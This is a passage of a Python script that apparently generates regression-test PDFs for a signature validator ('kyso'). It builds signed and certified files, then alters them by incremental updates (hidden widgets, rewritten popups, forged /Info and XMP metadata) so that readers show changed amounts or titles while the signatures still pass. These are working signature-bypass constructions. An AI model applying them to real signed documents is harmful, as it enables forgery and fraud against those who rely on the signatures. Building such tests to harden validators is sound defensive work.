certified = kept_need_appearances(lambda p: certify(p, __import__('pyhanko.sign.fields').sign.fields.MDPPerm.ANNOTATE),
                                  build(need))
_, size = last_xref(certified)
text = (b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (ketqua) /V (Ket qua: DAT) /F 4 /P 3 0 R '
        b'/Rect [40 690 560 720] /DA (/Helv 16 Tf 0 g) /AP << /N %d 0 R >> >>' % (size + 1))
save('need-appearances-text', certified,
     update(certified, {size: text, size + 1: BLANK, 3: with_annot(raw(certified, 3), size)}))

# A /Rect of no area and an appearance dictionary whose normal appearance kyso finds none of:
# Ghostscript draws /D (or /R) when there is no /N; PDFium draws the state /Off when there is
# no /AS, and the state a string /AS names.
signed = sign(build(page3))
zero = b'<< /Type /Annot /Subtype /Widget /Rect [40 680 40 680] /F 4 /P 3 0 R /Parent %(F)d 0 R '
for name, ap in [('zero-rect-down', b'/AP << /D %(X)d 0 R >>'),
                 ('zero-rect-states-no-as', b'/AP << /N << /Off %(X)d 0 R >> >>'),
                 ('zero-rect-string-as', b'/AS (On) /AP << /N << /On %(X)d 0 R >> >>')]:
    save(name, signed, added_sig_widget(signed, zero + ap + b' >>', [DRAWN]))

# The signed file already holds an unused form XObject of `/Length 75.0`: to kyso, which took
# the data up to the first `endstream`, one space; MuPDF, PDFium and pdf.js read 75 bytes, on to
# "DAT". After signing, an unsigned signature widget names it as its appearance.
drawing = b' \nendstream\n1 g 0 0 520 50 re f BT 0 g /F1 16 Tf 20 20 Td (Ket qua: DAT - da duyet) Tj ET'
shadow = dict(page3)
shadow[6] = (b'<< /Type /XObject /Subtype /Form /BBox [0 0 520 50] /Resources << /Font << /F1 5 0 R >> >> '
             b'/Length %d.0 >>\nstream\n' % len(drawing) + drawing + b'\nendstream')
signed = sign(build(shadow))
save('real-length-appearance', signed, added_sig_widget(
    signed, b'<< /Type /Annot /Subtype /Widget /Rect [40 680 560 730] /F 4 /P 3 0 R /Parent %(F)d 0 R '
            b'/AP << /N 6 0 R >> >>', []))


# 16. Found by an eleventh attacker's reading (helper 228, 2026-12-06): the page says
#     "900 VND"; an empty signature field for a second signer paints a white box and a "1" over
#     the "9", so every reader shows "100 VND" when the first signer signs. After signing, only
#     the field's /F turns 4 into 2 (Hidden): every reader shows "900 VND". TOTAL-PASSED,
#     under DocMDP P=1 too.
def hidden_field(name, sign_with):
    cover = stream(b'1 g 0 0 14 28 re f BT 0 g /F1 24 Tf 0.56 6 Td (1) Tj ET',
                   b'/Type /XObject /Subtype /Form /BBox [0 0 14 28] /Resources << /Font << /F1 5 0 R >> >> ')
    widget = (b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (KeToanTruong) /F 4 /Rect [147.5 744 161.5 772] '
              b'/P 3 0 R /AP << /N 8 0 R >> >>')
    objs = {
        1: b'<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>',
        2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
           b'/Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R] >>',
        4: stream(b'BT /F1 24 Tf 60 750 Td (So tien: 900 VND) Tj ET'),
        5: HELV,
        6: b'<< /Fields [7 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 5 0 R >> >> >>',
        7: widget,
        8: cover,
    }
    signed = sign_with(build(objs))
    save(name, signed, update(signed, {7: raw(signed, 7).replace(b'/F 4', b'/F 2')}))


hidden_field('empty-field-hidden', sign)


# ... and hidden, then given a document time-stamp in that field (anyone can have one made):
# the drawing taken away by a "later signature" was only a note (helper 230).
def stamper():
    """pyHanko's DummyTimeStamper with the TSA `zero_rect_timestamp` made."""
    from pyhanko.keys import load_cert_from_pemder, load_private_key_from_pemder
    from pyhanko.sign import timestamps
    return timestamps.DummyTimeStamper(tsa_cert=load_cert_from_pemder(os.path.join(D, 'tsa.pem')),
                                       tsa_key=load_private_key_from_pemder(os.path.join(D, 'tsa.key'), None))


def hidden_then_stamped():
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    hidden = open(os.path.join(D, 'empty-field-hidden.pdf'), 'rb').read()
    out = io.BytesIO()
    signers.PdfTimeStamper(stamper(), field_name='KeToanTruong').timestamp_pdf(
        IncrementalPdfFileWriter(io.BytesIO(hidden), strict=False), 'sha256', output=out)
    save('empty-field-hidden-stamped', open(os.path.join(D, 'empty-field-hidden-signed.pdf'), 'rb').read(),
         out.getvalue())


hidden_then_stamped()
hidden_field('empty-field-hidden-certified',
             lambda p: certify(p, __import__('pyhanko.sign.fields').sign.fields.MDPPerm.NO_CHANGES))

# A page's open popup whose /Parent, a Text annotation no page lists, holds the text it shows:
# kyso's walk took a popup's /Parent for a back reference and compared nothing of it; the text
# rewritten after signing was drawn by Ghostscript. TOTAL-PASSED (helper 228).
popup = dict(page3)
popup[3] = page3[3].rstrip()[:-2] + b' /Annots [6 0 R] >>'
popup[6] = b'<< /Type /Annot /Subtype /Popup /Parent 7 0 R /Rect [300 735 560 800] /Open true /F 4 >>'
popup[7] = (b'<< /Type /Annot /Subtype /Text /Contents (Da duyet: 100 VND) /T (Ke toan truong) /F 4 '
            b'/Rect [0 0 0 0] /Popup 6 0 R >>')
signed = sign(build(popup))
save('popup-parent-rewritten', signed, update(signed, {7: raw(signed, 7).replace(b'100 VND', b'900 VND')}))

# Under a certification allowing annotations (P=3), added after it and said nothing of: a text
# widget no field lists, with an empty appearance and a /V (pdf.js's forms layer shows its value
# in a control of its own), and a Text annotation with an empty appearance whose popup is open
# and Hidden (pdf.js gives the popup its parent's flags and shows it). Permitted, and now said
# added (helper 228).
certified = certify(build(page3), __import__('pyhanko.sign.fields').sign.fields.MDPPerm.ANNOTATE)
_, size = last_xref(certified)
blank = stream(b' ', b'/Type /XObject /Subtype /Form /BBox [0 0 520 30] ')
text = (b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (ketqua) /V (Ket qua: DAT) /F 4 /P 3 0 R '
        b'/Rect [40 690 560 720] /DA (/Helv 16 Tf 0 g) /AP << /N %d 0 R >> >>' % (size + 1))
save('p3-text-widget-blank', certified,
     update(certified, {size: text, size + 1: blank, 3: with_annot(raw(certified, 3), size)}))
note = (b'<< /Type /Annot /Subtype /Text /Contents (Ket qua: DAT) /F 4 /P 3 0 R /Rect [40 690 60 710] '
        b'/Popup %d 0 R /AP << /N %d 0 R >> >>' % (size + 1, size + 2))
hidden_popup = b'<< /Type /Annot /Subtype /Popup /Parent %d 0 R /Open true /F 2 /Rect [40 600 560 720] >>' % size
pg = with_annot(with_annot(raw(certified, 3), size), size + 1)
save('p3-hidden-open-popup', certified,
     update(certified, {size: note, size + 1: hidden_popup, size + 2: blank, 3: pg}))

# Certified allowing no change (P=1), then the trailer's /Info pointed at a new object of
# another /Title: passed, where the same change made in place failed (helper 230).
certified = certify(build(page3), __import__('pyhanko.sign.fields').sign.fields.MDPPerm.NO_CHANGES)
info = int(re.findall(rb'/Info (\d+) 0 R', certified)[-1])
_, size = last_xref(certified)
renamed = raw(certified, info)
renamed = (re.sub(rb'/Title\s*\([^)]*\)', b'', renamed).rstrip()[:-2]
           + b' /Title (Hop dong so 7: 900 VND) >>')
save('info-renamed-certified', certified,
     append(certified, [(size, renamed)], b'/Size %d /Root 1 0 R /Info %d 0 R' % (size + 1, size)))

# 17. Found by a twelfth attacker's reading (helper 231, 2026-12-06): flags hide a widget from
#     Poppler and MuPDF, not from every reader. pdf.js's forms layer (Firefox) draws a signature
#     widget whatever its /F; PDFium's (Chrome) and Ghostscript's screen output draw one that is
#     NoView (32) without Print. Added after signing with a drawing over the page, Hidden (2) or
#     NoView: TOTAL-PASSED; under DocMDP P=1 given a document time-stamp too.
signed = sign(build(page3))
for name, flags in [('hidden-sig-widget', b'2'), ('noview-sig-widget', b'32')]:
    save(name, signed, added_sig_widget(
        signed, b'<< /Type /Annot /Subtype /Widget /Rect [40 680 560 730] /F ' + flags
                + b' /P 3 0 R /Parent %(F)d 0 R /AP << /N %(X)d 0 R >> >>', [DRAWN]))
# ... an empty signature field, Hidden and blank when signed, given a drawing after.
hidden = dict(page3)
hidden[1] = b'<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>'
hidden[3] = page3[3].rstrip()[:-2] + b' /Annots [7 0 R] >>'
hidden[6] = b'<< /Fields [7 0 R] >>'
hidden[7] = b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sig2) /F 2 /Rect [40 680 560 730] /P 3 0 R /AP << /N 8 0 R >> >>'
hidden[8] = BLANK
signed = sign(build(hidden))
_, size = last_xref(signed)
save('hidden-field-drawn', signed,
     update(signed, {7: raw(signed, 7).replace(b'/N 8 0 R', b'/N %d 0 R' % size), size: DRAWN}))


# ... certified at P=1, then a Hidden signature field drawing over the page added and given a
# document time-stamp (pyHanko).
def hidden_timestamp_certified():
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    certified = certify(build(page3), __import__('pyhanko.sign.fields').sign.fields.MDPPerm.NO_CHANGES)
    widget = (b'<< /Type /Annot /Subtype /Widget /Rect [40 680 560 730] /F 2 /P 3 0 R /Parent %(F)d 0 R '
              b'/AP << /N %(X)d 0 R >> >>')
    prepared = added_sig_widget(certified, widget, [DRAWN])
    time.sleep(1.1)
    out = io.BytesIO()
    signers.PdfTimeStamper(stamper(), field_name='Sig2').timestamp_pdf(
        IncrementalPdfFileWriter(io.BytesIO(prepared), strict=False), 'sha256', output=out)
    save('hidden-timestamp-certified', certified, out.getvalue())


hidden_timestamp_certified()

# An open popup with no /Parent: Ghostscript takes its text from the dictionary its /P names
# (its page, as a rule). That dictionary, rewritten after signing, was never walked:
# TOTAL-PASSED (helper 231).
popup = dict(page3)
popup[3] = page3[3].rstrip()[:-2] + b' /Annots [6 0 R] >>'
popup[6] = b'<< /Type /Annot /Subtype /Popup /Rect [60 560 400 720] /Open true /F 4 /P 7 0 R >>'
popup[7] = b'<< /Contents (Duyet chi: 100 VND) /T (Ke toan truong) /C [1 1 0.6] >>'
signed = sign(build(popup))
save('popup-p-rewritten', signed, update(signed, {7: raw(signed, 7).replace(b'100 VND', b'900 VND')}))


# 18. Certified allowing no change (P=1), with XMP metadata (as every PDF/A has), then given a
#     document time-stamp by pyHanko, which writes the packet anew (its dates, its producer)
#     and, when the certifier was another pyHanko release, /Info's /Producer too: failed as a
#     metadata change, which pyHanko accepts (helper 231). Both pass now (the packet compared
#     as written: xmp_same_but_stamps); the same with the packet's title changed does not.
XMP = ('<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
       '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n'
       '<rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/" '
       'xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmlns:pdf="http://ns.adobe.com/pdf/1.3/" '
       'xmlns:dc="http://purl.org/dc/elements/1.1/">\n'
       '<pdfaid:part>2</pdfaid:part><pdfaid:conformance>B</pdfaid:conformance>\n'
       '<xmp:CreateDate>2026-12-01T10:00:00+07:00</xmp:CreateDate><xmp:ModifyDate>2026-12-01T10:00:00+07:00</xmp:ModifyDate>\n'
       '<pdf:Producer>LibreOffice 7.5</pdf:Producer>\n'
       '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Giấy phép xây dựng</rdf:li></rdf:Alt></dc:title>\n'
       '</rdf:Description></rdf:RDF></x:xmpmeta>\n<?xpacket end="w"?>').encode()


def raw_xmp(pdf):
    """The last XMP packet written in `pdf`."""
    return re.findall(rb'<\?xpacket begin.*?<\?xpacket end[^>]*>', pdf, re.S)[-1]


def info_update(pdf, objs):
    """An update writing these objects, its trailer naming /Info (object 7) as before."""
    out = update(pdf, objs)
    i = out.rindex(b'/Root 1 0 R /Prev')
    return out[:i] + b'/Root 1 0 R /Info 7 0 R' + out[i + len(b'/Root 1 0 R'):]


def meta_update(pdf, xmp):
    """An update writing the XMP packet (object 6) anew."""
    return info_update(pdf, {6: stream(xmp, b'/Type /Metadata /Subtype /XML ')})


def certified_then_stamped(name, vendor=None, retitle=False, xmp=True):
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.metadata import model as md_model
    from pyhanko.sign import signers
    from pyhanko.sign.fields import MDPPerm
    objs = dict(page3)
    if xmp:
        objs[1] = b'<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>'
        objs[6] = stream(XMP, b'/Type /Metadata /Subtype /XML ')
    objs[7] = b"<< /Producer (LibreOffice 7.5) /CreationDate (D:20261201100000+07'00') >>"
    pdf = build(objs).replace(b'/Root 1 0 R', b'/Root 1 0 R /Info 7 0 R')
    real = md_model.VENDOR
    if vendor:
        md_model.VENDOR = vendor  # what another pyHanko release writes
    try:
        certified = certify(pdf, MDPPerm.NO_CHANGES)
    finally:
        md_model.VENDOR = real
    time.sleep(1.1)
    stamped = certified
    if retitle:
        stamped = meta_update(certified, raw_xmp(certified).replace('xây dựng'.encode(), 'phá dỡ'.encode()))
    w = IncrementalPdfFileWriter(io.BytesIO(stamped), strict=False)
    out = io.BytesIO()
    signers.PdfTimeStamper(stamper()).timestamp_pdf(w, 'sha256', output=out)
    save(name, certified, out.getvalue())


certified_then_stamped('xmp-certified-stamped')
certified_then_stamped('producer-certified-stamped', vendor='pyHanko 0.20.1', xmp=False)
certified_then_stamped('xmp-retitled-certified', retitle=True)
# The packet's toolkit (x:xmptk) is the release that wrote it: certified by one pyHanko release,
# time-stamped years later by another (helper 235: failed).
certified_then_stamped('xmptk-certified-stamped', vendor='pyHanko 0.20.1')


# 18b. The packet compared as written under P=1 (helper 235): a date or producer of the packet's
#      own description may change, nothing else. A pdf:Producer in a description of an rdf:RDF
#      nested in the title (as an rdf:li's content, or an XML literal) is the title to pdf.js,
#      which reads dc:title's text; and moving the packet's dates past /Info's /ModDate makes
#      Adobe show the packet's title instead of /Info's ("if the XMP metadata is newer, the XMP
#      properties are used"). Certified by pyHanko keeping the author's packet, then updated.
def packet(body, title):
    return ('<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
            '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n'
            '<rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/" '
            'xmlns:pdf="http://ns.adobe.com/pdf/1.3/" xmlns:dc="http://purl.org/dc/elements/1.1/">\n'
            + body.replace('TITLE', title) +
            '\n</rdf:Description></rdf:RDF></x:xmpmeta>\n<?xpacket end="w"?>').encode()


def packet_changed(name, body, was, now, info=b''):
    objs = dict(page3)
    objs[1] = b'<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>'
    objs[6] = stream(packet(body, was), b'/Type /Metadata /Subtype /XML ')
    objs[7] = b"<< /Producer (LibreOffice 7.5) /CreationDate (D:20261201100000+07'00') " + info + b'>>'
    pdf = build(objs).replace(b'/Root 1 0 R', b'/Root 1 0 R /Info 7 0 R')
    certified = certify(pdf, MDPPerm.NO_CHANGES, keep_xmp=True)
    save(name, certified, meta_update(certified, packet(body, now)))


from pyhanko.sign.fields import MDPPerm  # noqa: E402
NESTED = ('<xmp:ModifyDate>2026-12-01T10:00:00+07:00</xmp:ModifyDate><pdf:Producer>LibreOffice 7.5</pdf:Producer>\n'
          '<dc:title><rdf:Alt><rdf:li xml:lang="x-default"><rdf:RDF><rdf:Description>'
          '<pdf:Producer>TITLE</pdf:Producer></rdf:Description></rdf:RDF></rdf:li></rdf:Alt></dc:title>')
packet_changed('xmp-nested-rdf-title', NESTED, 'Giay phep xay dung', 'Thu hoi giay phep xay dung')
packet_changed('xmp-literal-rdf-title', NESTED.replace('<rdf:Alt><rdf:li xml:lang="x-default">', '')
               .replace('</rdf:li></rdf:Alt>', '').replace('<dc:title>', '<dc:title rdf:parseType="Literal">'),
               'Giay phep xay dung', 'Thu hoi giay phep xay dung')
packet_changed('xmp-dates-past-info',
               '<xmp:ModifyDate>TITLE</xmp:ModifyDate><xmp:MetadataDate>TITLE</xmp:MetadataDate>\n'
               '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Thu hoi giay phep</rdf:li></rdf:Alt></dc:title>',
               '2020-01-01T00:00:00Z', '2030-01-01T00:00:00Z',
               info=b"/ModDate (D:20261201100000+07'00') /Title (Giay phep xay dung) ")
# ... and the other way: the packet newer, then /Info's /ModDate (a string, as pyHanko writes
# it at every update) moved past the packet's dates.
packet_changed('info-date-past-xmp', '<xmp:ModifyDate>TITLE</xmp:ModifyDate>\n'
               '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Thu hoi giay phep</rdf:li></rdf:Alt></dc:title>',
               '2027-01-01T00:00:00Z', '2027-01-01T00:00:00Z',
               info=b"/ModDate (D:20261201100000+07'00') /Title (Giay phep xay dung) ")
certified = open(os.path.join(D, 'info-date-past-xmp-signed.pdf'), 'rb').read()
save('info-date-past-xmp', certified, info_update(certified, {7: raw(certified, 7).replace(
    b"/ModDate (D:20261201100000+07'00')", b"/ModDate (D:20280101000000Z)")}))


# 18c. Helper 236, on 18b: the packet's dates read wherever they are (a packet under an
#      x:xmpmeta of another namespace, which Adobe's toolkit reads, dated before /Info, then
#      /Info's /ModDate moved before it); dates without a zone compared as Adobe's toolkit
#      compares them, by the clock (/ModDate made zoneless and the packet given a zone, newer
#      by the clock, older in UTC); and an /Info written directly into a later trailer of a
#      file that had none (pdfinfo and pdf.js show its title).
def dated(date, ns='adobe:ns:meta/'):
    return packet('<xmp:ModifyDate>%s</xmp:ModifyDate><xmp:MetadataDate>%s</xmp:MetadataDate>\n'
                  '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Thu hoi giay phep</rdf:li></rdf:Alt></dc:title>'
                  % (date, date), '').replace(b'adobe:ns:meta/', ns.encode())


def certified_with(xmp, info):
    objs = dict(page3)
    objs[1] = b'<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>'
    objs[6] = stream(xmp, b'/Type /Metadata /Subtype /XML ')
    pdf = build(objs)
    if info is not None:  # b'': an /Info with no /ModDate
        objs[7] = (b"<< /Producer (LibreOffice 7.5) /Title (Giay phep xay dung)%s >>"
                   % (b" /ModDate (%s)" % info if info else b''))
        pdf = build(objs).replace(b'/Root 1 0 R', b'/Root 1 0 R /Info 7 0 R')
    return certify(pdf, MDPPerm.NO_CHANGES, keep_xmp=True)


c = certified_with(dated('2026-06-01T00:00:00Z', 'adobe:ns:meta'), b"D:20261201100000+07'00'")
save('xmp-wrapped-dates', c, info_update(c, {7: raw(c, 7).replace(b'D:20261201', b'D:20260101')}))
c = certified_with(dated('2026-12-01T09:00:00Z'), b'D:20261201100000Z')
save('zoneless-dates', c, info_update(c, {6: stream(dated('2026-12-01T12:00:00+05:00'), b'/Type /Metadata /Subtype /XML '),
                                          7: raw(c, 7).replace(b'D:20261201100000Z', b'D:20261201100000')}))
c = certified_with(dated('2026-12-01T09:00:00Z'), None)
prev, size = last_xref(c)
save('info-direct-added', c, c + b'xref\n0 0\ntrailer\n<< /Size %d /Root 1 0 R /Info << /Title (Thu hoi giay phep xay dung) '
     b'/Author (So Xay dung) >> /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (size, prev, len(c)))


# 18d. Helper 237, on 18c: a packet dated by pdf:ModDate, which Adobe's toolkit reads as
#      xmp:ModifyDate, then /Info's /ModDate moved past it; a packet rewritten with no space
#      between two attributes (the same events to quick-xml, no XML to expat: Adobe's toolkit
#      then reads no packet, and shows /Info's title); /Info's /Producer rewritten over lines
#      (pdfinfo prints a "Title:" line the document never had); /Info written as a stream
#      (Poppler and pdf.js read none), rewritten as a dictionary of the same keys.
c = certified_with(packet('<pdf:ModDate>2026-12-03T10:00:00+07:00</pdf:ModDate>\n'
                          '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Thu hoi giay phep</rdf:li></rdf:Alt></dc:title>', ''),
                   b"D:20261205100000+07'00'")
save('xmp-alias-date', c, info_update(c, {7: raw(c, 7).replace(b'D:20261205', b'D:20261202')}))
c = certified_with(dated('2026-12-03T10:00:00+07:00'), b"D:20261205100000+07'00'")
save('xmp-attributes-unspaced', c, meta_update(c, raw_xmp(c).replace(b'rdf:about="" xmlns:xmp', b'rdf:about=""xmlns:xmp')))
save('info-producer-lines', c, info_update(c, {7: raw(c, 7).replace(
    b'/Producer (LibreOffice 7.5)', b'/Producer (LibreOffice 7.5\nTitle:          Giay phep xay dung - DA DUYET)')}))
objs = dict(page3)
objs[7] = b'<< /Title (Giay phep xay dung - DA DUYET) /Author (Bo Xay dung) /Length 0 >>\nstream\n\nendstream'
c = certify(build(objs).replace(b'/Root 1 0 R', b'/Root 1 0 R /Info 7 0 R'), MDPPerm.NO_CHANGES, keep_xmp=True)
save('info-stream-to-dict', c, info_update(c, {7: b'<< /Title (Giay phep xay dung - DA DUYET) /Author (Bo Xay dung) /Length 0 >>'}))


# 18e. Helper 238, on 18d: /Info's /ModDate set back to the packet's date (which store a
#      reader takes on a tie is not said); a /ModDate added where neither store was dated;
#      /Info's /Producer rewritten to the bytes PRONOM's signature of PDF/A-1b looks for
#      (DROID and Siegfried would call the file PDF/A-1b).
c = certified_with(dated('2026-12-03T10:00:00+07:00'), b"D:20261205100000+07'00'")
save('info-date-tied', c, info_update(c, {7: raw(c, 7).replace(b'D:20261205', b'D:20261203')}))
undated = packet('<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Thu hoi giay phep</rdf:li></rdf:Alt></dc:title>', '')
c = certified_with(undated, b'')
save('info-date-added', c, info_update(c, {7: raw(c, 7).replace(b' >>', b" /ModDate (D:20261205100000+07'00') >>")}))
c = certified_with(undated, b"D:20261205100000+07'00'")
save('info-producer-pronom', c, info_update(c, {7: raw(c, 7).replace(b'/Producer (LibreOffice 7.5)', b'/Producer (LibreOffice 7.5 '
     b'xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/" pdfaid:part="1" pdfaid:conformance="B")')}))


# 18f. Honest time-stamps the order of dates must let through (helper 239): a packet in
#      pyHanko's form whose three dates are alike, or whose xmp:MetadataDate is a date without
#      a time, certified as it is, then time-stamped by pyHanko (which restates /ModDate and
#      xmp:ModifyDate, not xmp:MetadataDate): both failed when a tie was an order of its own
#      and a date without a time no order.
def pyhanko_stamped(pdf):
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    out = io.BytesIO()
    signers.PdfTimeStamper(stamper()).timestamp_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False),
                                                    'sha256', output=out)
    return out.getvalue()


LO = packet('<xmp:ModifyDate>2026-12-03T10:00:00+07:00</xmp:ModifyDate>'
            '<xmp:MetadataDate>2026-12-03T10:00:00+07:00</xmp:MetadataDate><pdf:Producer>LibreOffice 7.5</pdf:Producer>\n'
            '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Giay phep xay dung</rdf:li></rdf:Alt></dc:title>', '')
objs = dict(page3)
objs[1] = b'<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>'
objs[6] = stream(LO, b'/Type /Metadata /Subtype /XML ')
PYFORM = raw_xmp(certify(build(objs), MDPPerm.NO_CHANGES))  # the packet as pyHanko writes it


def dates_set(x, modify, metadata):
    x = re.sub(rb'xmp:ModifyDate="[^"]*"', b'xmp:ModifyDate="%s"' % modify, x)
    return re.sub(rb'xmp:MetadataDate="[^"]*"', b'xmp:MetadataDate="%s"' % metadata, x)


for name, metadata in [('dated-alike-stamped', b'2026-12-03T10:00:00+07:00'), ('metadata-day-stamped', b'2026-12-03')]:
    c = certified_with(dates_set(PYFORM, b'2026-12-03T10:00:00+07:00', metadata), b"D:20261203100000+07'00'")
    save(name, c, pyhanko_stamped(c))
# ... while a packet dated by a day alone is still ordered: /ModDate moved from the day before
# to the day after it fails (helper 240: it passed when such a date had only to stay as written).
c = certified_with(dated('2026-12-04'), b"D:20261203100000+07'00'")
save('xmp-day-passed', c, info_update(c, {7: raw(c, 7).replace(b'D:20261203', b'D:20261205')}))


# 18g. A packet larger than kyso compares (over 4 MiB decoded; a few hundred KB as written),
#      certified, then its date restated: not compared, and said so. Its limit, or the file's
#      decoding budget (helper 237: 63 time-stamps of a 4 MiB packet, each signature decoding
#      it again, spent it), was reported as "the document metadata changed".
def flate_stream(data, extra=b''):
    import zlib
    z = zlib.compress(data, 9)
    return b'<< /Length %d /Filter /FlateDecode %s>>\nstream\n' % (len(z), extra) + z + b'\nendstream'


KEYWORDS = ''.join('<rdf:li>k%d</rdf:li>' % i for i in range(200000))


def big_packet(date):
    return flate_stream(packet('<xmp:ModifyDate>%s</xmp:ModifyDate>\n<dc:subject><rdf:Bag>%s</rdf:Bag></dc:subject>'
                               % (date, KEYWORDS), ''), b'/Type /Metadata /Subtype /XML ')


objs = dict(page3)
objs[1] = b'<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>'
objs[6] = big_packet('2026-12-01T10:00:00+07:00')
c = certify(build(objs), MDPPerm.NO_CHANGES, keep_xmp=True)
save('xmp-past-limit-restated', c, update(c, {6: big_packet('2026-12-02T10:00:00+07:00')}))


# 19. One dictionary (300,000 numbers) that the popups of 2,000 pages name, by /P (helper 231's
#     fix walks it) or by /Parent: walked once per page, 20 s for one revision (helper 233).
#     Judged in bounded time now.
def shared_by_popups(name, key):
    o = {1: b'<< /Type /Catalog /Pages 2 0 R >>', 4: stream(b'BT /F1 16 Tf 60 700 Td (x) Tj ET'), 5: HELV,
         9: b'<< /Contents (Duyet chi) /Big [' + b'0 ' * 300000 + b'] >>'}
    kids = []
    for i in range(2000):
        p, a = 10 + 2 * i, 11 + 2 * i
        kids.append(b'%d 0 R' % p)
        o[p] = (b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
                b'/Resources << /Font << /F1 5 0 R >> >> /Annots [%d 0 R] >>' % a)
        o[a] = (b'<< /Type /Annot /Subtype /Popup /Rect [0 0 10 10] /P 9 0 R >>' if key == b'P' else
                b'<< /Type /Annot /Subtype /Popup /Rect [0 0 10 10] /P %d 0 R /Parent 9 0 R >>' % p)
    o[2] = b'<< /Type /Pages /Kids [' + b' '.join(kids) + b'] /Count 2000 >>'
    signed = sign(build(o))
    _, size = last_xref(signed)
    save(name, signed, update(signed, {size: b'<< /Producer (x) >>'}))


shared_by_popups('popup-p-shared', b'P')
shared_by_popups('popup-parent-shared', b'Parent')


# 20. Honest updates that failed (helper 233): an annotation whose /P names a page no page
#     tree holds any longer (a copy left after the page was replaced), then a Text annotation
#     added under P=3, or a visible countersignature under P=2; and an empty signature field
#     Hidden when the first signature was made, signed by pyHanko after it.
def with_orphan_p():
    o = dict(page)
    o[3] = page[3].rstrip()[:-2] + b' /Annots [6 0 R] >>'
    o[6] = b'<< /Type /Annot /Subtype /Square /Rect [50 50 100 100] /C [1 0 0] /F 4 /P 7 0 R >>'
    o[7] = page[3]
    return build(o)


def honest_after_orphan():
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.fields import MDPPerm, SigFieldSpec
    certified = certify(with_orphan_p(), MDPPerm.ANNOTATE)
    _, size = last_xref(certified)
    note = b'<< /Type /Annot /Subtype /Text /Rect [200 200 220 220] /Contents (ok) /F 4 /P 3 0 R >>'
    save('p3-annot-orphan-p', certified,
         update(certified, {size: note, 3: with_annot(raw(certified, 3), size)}))
    certified = certify(with_orphan_p(), MDPPerm.FILL_FORMS)
    s = signers.SimpleSigner.load(os.path.join(D, 'signer.key'), os.path.join(D, 'signer.pem'),
                                  ca_chain_files=(os.path.join(D, 'root.pem'),))
    out = io.BytesIO()
    signers.PdfSigner(signers.PdfSignatureMetadata(field_name='Sig2'), signer=s,
                      new_field_spec=SigFieldSpec('Sig2', box=(300, 300, 400, 340))).sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(certified), strict=False), output=out)
    save('p2-countersign-orphan-p', certified, out.getvalue())
    o = dict(page)
    o[1] = b'<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>'
    o[3] = page[3].rstrip()[:-2] + b' /Annots [7 0 R] >>'
    o[6] = b'<< /Fields [7 0 R] >>'
    o[7] = b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sig2) /F 2 /Rect [300 100 500 150] /P 3 0 R >>'
    first = sign(build(o))
    out = io.BytesIO()
    signers.PdfSigner(signers.PdfSignatureMetadata(field_name='Sig2'), signer=s).sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(first), strict=False), output=out)
    save('hidden-empty-then-signed', first, out.getvalue())


honest_after_orphan()


# 21. Under P=1, /Info's /ModDate and /Producer may change, as strings: a /Producer made a
#     dictionary holding a /Title passed too (helper 234).
certified = certify(build(page3), __import__('pyhanko.sign.fields').sign.fields.MDPPerm.NO_CHANGES)
info = int(re.findall(rb'/Info (\d+) 0 R', certified)[-1])
odd = re.sub(rb'/Producer\s*\((?:[^()\\]|\\.)*\)', b'', raw(certified, info)).rstrip()[:-2] + \
    b' /Producer << /Title (Hop dong so 7: 900 VND) >> >>'
save('info-producer-dict-certified', certified, update(certified, {info: odd}))
